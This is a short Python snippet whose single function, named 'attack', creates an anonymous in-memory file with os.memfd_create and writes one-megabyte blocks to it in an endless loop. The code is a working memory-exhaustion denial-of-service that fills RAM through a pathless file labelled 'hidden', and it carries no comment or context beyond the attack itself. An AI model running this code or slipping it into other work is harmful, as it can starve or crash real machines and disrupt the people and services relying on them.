import os


def attack(x):
    descriptor = os.memfd_create("hidden")
    while True:
        os.write(descriptor, bytes(1 << 20))
